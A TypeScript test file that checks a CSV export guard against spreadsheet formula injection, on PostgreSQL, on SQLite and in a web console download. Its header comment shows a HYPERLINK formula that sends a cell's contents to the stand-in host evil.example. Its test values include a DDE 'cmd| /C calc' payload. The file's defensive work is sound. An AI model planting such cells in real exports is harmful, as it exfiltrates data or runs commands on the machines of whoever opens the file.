// CSV injection: a cell that begins with `=`, `+`, `-`, `@`, a tab or a CR is read by
// spreadsheets (Excel, LibreOffice, Google Sheets) as a formula, so a value someone stored in
// the database (`=HYPERLINK("https://evil.example?"&A1,"click")`, `@SUM(…)`, DDE payloads)
// runs when a colleague opens the export. The OWASP guard prefixes such a cell with `'` and
// quotes it. `POST /query/export` applies it to CSV unless `csvFormulaGuard: false`; the web
// console's CSV download always does. Numbers, and text that is just a number (`-5`, int8 and
// numeric values arrive as strings), are left alone: a spreadsheet reads them as numbers.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../web/src/csv-text.ts';
import { readCsv } from './support/export-client.ts';
import { createHarness, PG_URL, workspaceSqliteDir, type Harness } from './support/harness.ts';

let h: Harness;

beforeAll(async () => {
  h = await createHarness();
  fs.writeFileSync(path.join(workspaceSqliteDir(h, 'default'), 'guard.db'), '');
  for (const [name, body] of [
    ['pg', { url: PG_URL }],
    ['lite', { engine: 'sqlite', database: 'guard.db' }],
  ] as const) {
    const res = await h.call('POST', '/api/connections', h.adminKey, { name, ...body });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
  }
});
afterAll(async () => {
  await h?.close();
});

const SQL = `SELECT '=1+2' AS eq, '+1+1' AS plus, '-2+3+cmd|'' /C calc''!A0' AS minus, '@SUM(A1:A2)' AS at,
  E'\\tx' AS tab, E'\\rx' AS cr, '=1,"2"' AS quoted, 'a=b' AS inner, '-5' AS negtext, -5 AS neg,
  (-19.90)::numeric AS num, '-Infinity'::float8 AS inf, '' AS empty, NULL::text AS nul, 1 AS "=HYPERLINK(""x"")"`;

const RAW_ROW = '=1+2,+1+1,-2+3+cmd|\' /C calc\'!A0,@SUM(A1:A2),\tx,"\rx","=1,""2""",a=b,-5,-5,-19.90,-Infinity,"",,1\r\n';
const GUARDED_ROW =
  '"\'=1+2","\'+1+1","\'-2+3+cmd|\' /C calc\'!A0","\'@SUM(A1:A2)","\'\tx","\'\rx","\'=1,""2""",a=b,-5,-5,-19.90,"\'-Infinity","",,1\r\n';
const RAW_HEADER = 'eq,plus,minus,at,tab,cr,quoted,inner,negtext,neg,num,inf,empty,nul,"=HYPERLINK(""x"")"\r\n';
const GUARDED_HEADER = 'eq,plus,minus,at,tab,cr,quoted,inner,negtext,neg,num,inf,empty,nul,"\'=HYPERLINK(""x"")"\r\n';

async function exportCsv(body: Record<string, unknown>) {
  const res = await h.app.inject({
    method: 'POST',
    url: '/api/query/export',
    headers: { authorization: `Bearer ${h.readerKey}`, 'content-type': 'application/json' },
    payload: JSON.stringify({ connectionId: 'pg', sql: SQL, format: 'csv', ...body }),
  });
  return { status: res.statusCode, text: res.body };
}

describe('POST /query/export, format csv', () => {
  it('guards formula cells by default: a leading quote, and the cell quoted', async () => {
    const res = await exportCsv({});
    expect(res.status, res.text).toBe(200);
    expect(res.text).toBe(GUARDED_HEADER + GUARDED_ROW);
    // Still RFC 4180: a CSV reader gets the prefixed text back, nothing more.
    const records: string[][] = [];
    await readCsv(new Response(res.text).body!, (fields) => records.push(fields));
    expect(records[1].slice(0, 6)).toEqual(["'=1+2", "'+1+1", "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1:A2)", "'\tx", "'\rx"]);
  });

  it('csvFormulaGuard: true is the default spelled out', async () => {
    expect((await exportCsv({ csvFormulaGuard: true })).text).toBe(GUARDED_HEADER + GUARDED_ROW);
  });

  it('csvFormulaGuard: false writes every value exactly as stored', async () => {
    const res = await exportCsv({ csvFormulaGuard: false });
    expect(res.status).toBe(200);
    expect(res.text).toBe(RAW_HEADER + RAW_ROW);
  });

  it('is the same on SQLite', async () => {
    const res = await h.app.inject({
      method: 'POST',
      url: '/api/query/export',
      headers: { authorization: `Bearer ${h.readerKey}`, 'content-type': 'application/json' },
      payload: JSON.stringify({ connectionId: 'lite', sql: `SELECT '=1+2' AS f, -5 AS n, '@x' AS a`, format: 'csv' }),
    });
    expect(res.body).toBe(`f,n,a\r\n"'=1+2",-5,"'@x"\r\n`);
  });

  it('leaves NDJSON and JSON alone, and refuses a non-boolean', async () => {
    const nd = await exportCsv({ format: 'ndjson', csvFormulaGuard: true });
    expect(nd.text.split('\n')[1]).toContain('"=1+2"');
    const bad = await exportCsv({ csvFormulaGuard: 'yes' });
    expect(bad.status).toBe(400);
    expect(JSON.parse(bad.text)).toMatchObject({ success: false, code: 'invalid_request', details: { field: 'csvFormulaGuard' } });
  });

  it('is in the OpenAPI document, boolean, default true', async () => {
    const doc = (await h.call('GET', '/api/openapi.json', null)).body;
    const schema = doc.paths['/api/query/export'].post.requestBody.content['application/json'].schema;
    expect(schema.properties.csvFormulaGuard).toMatchObject({ type: 'boolean', default: true });
    expect(schema.properties.csvFormulaGuard.description).toMatch(/formula/i);
  });
});

describe("the web console's CSV download (web/src/csv-text.ts)", () => {
  it('always guards formula cells and header names; numbers and numeric text stay as they are', () => {
    const columns = [
      { name: '=cmd' },
      { name: 'a' },
      { name: 'b' },
      { name: 'c' },
      { name: 'd' },
      { name: 'e' },
      { name: 'f' },
      { name: 'g' },
    ];
    const rows = [['=1+2', '+1', '-1+1', '@x', '\tx', '\rx', -5, '-19.90']];
    expect(toCsv(columns, rows)).toBe(`"'=cmd",a,b,c,d,e,f,g\r\n"'=1+2",+1,"'-1+1","'@x","'\tx","'\rx",-5,-19.90\r\n`);
  });

  it('keeps RFC 4180 quoting for everything else', () => {
    expect(
      toCsv(
        [{ name: 'x' }, { name: 'y' }],
        [
          ['a,b', 'say "hi"'],
          [null, { k: '=1' }],
        ],
      ),
    ).toBe('x,y\r\n"a,b","say ""hi"""\r\n,"{""k"":""=1""}"\r\n');
  });
});
